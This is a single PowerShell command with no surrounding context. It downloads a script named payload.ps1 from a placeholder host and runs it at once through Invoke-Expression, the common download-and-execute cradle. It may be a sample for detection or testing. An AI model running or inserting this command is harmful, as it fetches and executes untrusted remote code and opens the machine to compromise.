IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/payload.ps1')
